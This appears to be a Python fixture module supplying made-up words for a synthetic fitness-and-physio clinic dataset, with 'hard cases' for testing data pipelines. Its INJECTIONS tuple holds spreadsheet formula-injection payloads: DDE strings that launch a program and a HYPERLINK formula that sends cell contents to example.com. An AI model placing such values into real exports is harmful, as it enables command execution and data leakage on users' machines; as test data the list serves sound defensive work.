"""The words of the sample: a made-up chain of fitness and physiotherapy clinics. No real persons, companies or numbers."""

from __future__ import annotations

from typing import NamedTuple

# Locales of Faker's name lists and how often they occur: many languages, fourteen scripts.
LOCALES: dict[str, int] = {
    "en_US": 3600, "es_MX": 1100, "fr_FR": 300, "de_DE": 300, "it_IT": 250, "pt_BR": 450, "pl_PL": 220, "cs_CZ": 100, "hu_HU": 100,
    "ro_RO": 90, "sv_SE": 110, "fi_FI": 70, "is_IS": 40, "ga_IE": 120, "lt_LT": 60, "tr_TR": 150, "az_AZ": 50, "vi_VN": 350,
    "yo_NG": 160, "zh_CN": 420, "ja_JP": 200, "ko_KR": 300, "ru_RU": 220, "uk_UA": 170, "bg_BG": 60, "el_GR": 120, "ar_SA": 180,
    "fa_IR": 130, "he_IL": 120, "hi_IN": 300, "bn_BD": 110, "ta_IN": 90, "th_TH": 90, "ka_GE": 50, "hy_AM": 90, "ne_NP": 60,
}  # fmt: skip


class City(NamedTuple):
    """A place with a clinic: its postcodes are the prefix and two digits below `codes`."""

    name: str
    region: str
    prefix: str
    codes: int
    weight: int


CITIES = (
    City("Boston", "MA", "021", 30, 20),  # hard case: postcodes with a leading zero
    City("Worcester", "MA", "016", 10, 6),
    City("Providence", "RI", "029", 12, 7),
    City("Portland", "ME", "041", 8, 4),
    City("Hartford", "CT", "061", 15, 7),
    City("Newark", "NJ", "071", 12, 8),
    City("Philadelphia", "PA", "191", 50, 14),
    City("New York", "NY", "100", 40, 20),
    City("Baltimore", "MD", "212", 30, 7),
    City("Pittsburgh", "PA", "152", 30, 7),
)

# Job title: (how often, income factor)
JOBS: dict[str, tuple[int, float]] = {
    "Nurse": (60, 1.05), "Teacher": (70, 0.95), "Software engineer": (60, 1.8), "Sales assistant": (60, 0.65), "Student": (60, 0.25),
    "Retired": (70, 0.6), "Office clerk": (55, 0.75), "Driver": (40, 0.75), "Electrician": (30, 1.0), "Carpenter": (25, 0.9),
    "Accountant": (40, 1.25), "Project manager": (40, 1.5), "Physician": (20, 2.9), "Lawyer": (20, 2.4), "Cook": (30, 0.6),
    "Waiter": (25, 0.5), "Cleaner": (25, 0.5), "Police officer": (20, 1.15), "Firefighter": (15, 1.1), "Hairdresser": (20, 0.6),
    "Designer": (25, 1.05), "Researcher": (20, 1.2), "Warehouse worker": (30, 0.65), "Social worker": (25, 0.85), "Farmer": (10, 0.8),
}  # fmt: skip

# Hard case: job titles that one person in the country has.
UNIQUE_JOBS = (
    "Lighthouse keeper of Seguin Island", "Head of the state lottery draw", "Curator of the whale skeleton collection",
    "Carillonneur of the Mercer Tower", "State apiarist of Rhode Island", "First bassoon, Penobscot Symphony", "Glass eye maker",
    "Bishop of the northern diocese", "Chief ice core archivist", "Owner of the Blue Comet diner chain", "Olympic luge coach",
    "Harbor seal rehabilitator", "Speaker of the county assembly", "Last typewriter mechanic of Baltimore", "Polar meteorologist",
    "Subway map cartographer", "Keeper of the rare books vault", "Astronaut (two missions)", "Master of the rolls, 4th district",
    "Truffle dog trainer", "Organ builder to the cathedral", "Voice of the airport announcements", "Mayor of Little Compton",
    "Snake venom extractor", "Clockmaker of City Hall", "Goalkeeper of the national team", "Owner of the Tidewater ferry",
    "Puppeteer of the Saturday show", "Chief of the tide gauge service", "Perfumer to three presidents",
)  # fmt: skip

# Hard case: text that a spreadsheet would run as a formula.
INJECTIONS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=1+1",
)  # fmt: skip

# Hard case: one meaning, many spellings. All but the last are read as null by default; the policy adds the last.
NULLS = ("", "", "", "NULL", "null", "NA", "N/A", "n/a", "None", "nan", "NaN", "\\N")
NULLS_AND_DASH = (*NULLS, "-", "-")

PRICES = {"Basic": "19.90", "Plus": "34.90", "Premium": "59.90", "Family": "79.90"}

# Diagnosis: how often. Hard case: the last ones are so rare that they name a person.
DIAGNOSES: dict[str, int] = {
    "Low back pain": 1500, "Knee osteoarthritis": 700, "Rotator cuff injury": 600, "Neck pain": 700, "Ankle sprain": 450,
    "Tennis elbow": 300, "Plantar fasciitis": 300, "Type 2 diabetes": 350, "Hypertension": 500, "Depression": 250, "Asthma": 250,
    "Post-surgical rehabilitation": 350, "Parkinson's disease": 60, "Multiple sclerosis": 45, "HIV infection": 25,
}  # fmt: skip
RARE_DIAGNOSES = ("Stiff person syndrome", "Erdheim-Chester disease", "Fibrodysplasia ossificans progressiva", "Marfan syndrome")

# Product: (price, how often, whether it is shipped)
PRODUCTS: dict[str, tuple[int, int, bool]] = {
    "Day pass": (15, 16, False), "Physio session": (70, 20, False), "Massage 30 min": (45, 12, False), "Personal training": (60, 10, False),
    "Yoga class": (18, 14, False), "Nutrition advice": (55, 4, False), "Protein powder": (32, 10, True), "Resistance bands": (19, 7, True),
    "Foam roller": (24, 5, True), "Yoga mat": (39, 5, True), "Knee brace": (49, 3, True), "Water bottle": (12, 6, True),
}  # fmt: skip
GIFT_NOTES = ("Happy birthday {name}! 🎉", "For {name}, get well soon 💐", "From all of us to {name}", '{name}: "no excuses" 😅')

COMMENTS = (
    "Prefers mornings.", "Asked about parking.", "Needs step-free access ♿", "Pays by invoice.", "Left a jacket at the desk.",
    "Very happy with the new coach 😀", "Wants a quieter changing room.", "Referred by a friend.", "Called twice, \"nobody answered\".",
    "First line of a note.\nSecond line, with a comma.", "Freezes the contract every summer ☀️🏖️", "Speaks little English.",
)  # fmt: skip

TOPICS: dict[str, tuple[str, ...]] = {
    "billing": (
        "I was charged twice in {month}. Please refund to the card on file. {sign}",
        "Why did the price change? You can reach me at {email}. {sign}",
        "My bank says the payment of {amount} was rejected. Call me on {phone}. {sign}",
    ),
    "booking": (
        "The app shows no free physio slots in {month}. {sign}",
        "Please move the appointment of {other} to {month}; her number is {phone}. {sign}",
        "I booked for {other} by mistake, can you cancel? 🙏 {sign}",
    ),
    "cancellation": (
        "I am moving away and want to end my contract in {month}. {sign}",
        "Cancel please. I hardly come any more. Confirm to {email}. {sign}",
    ),
    "facility": (
        "The showers were cold again 🥶. {sign}",
        "The treadmill by the window is broken since {month}.\nNobody at the desk knew about it. {sign}",
        "Great team, especially {other}! {sign}",
    ),
    "medical": (
        "My doctor {other} needs the report about my {diagnosis}. Send it to {email}. {sign}",
        "Does my insurance cover sessions for {diagnosis}? Phone: {phone}. {sign}",
    ),
    "app": (
        "I cannot log in with {email}. {sign}",
        "The app crashes when I open the calendar 📅. {sign}",
    ),
}
SUBJECTS = {
    "billing": "Question about an invoice", "booking": "Appointment", "cancellation": "End of contract", "facility": "At the clinic",
    "medical": "Report for {name}", "app": "Problem with the app",
}  # fmt: skip
MONTHS = ("January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December")
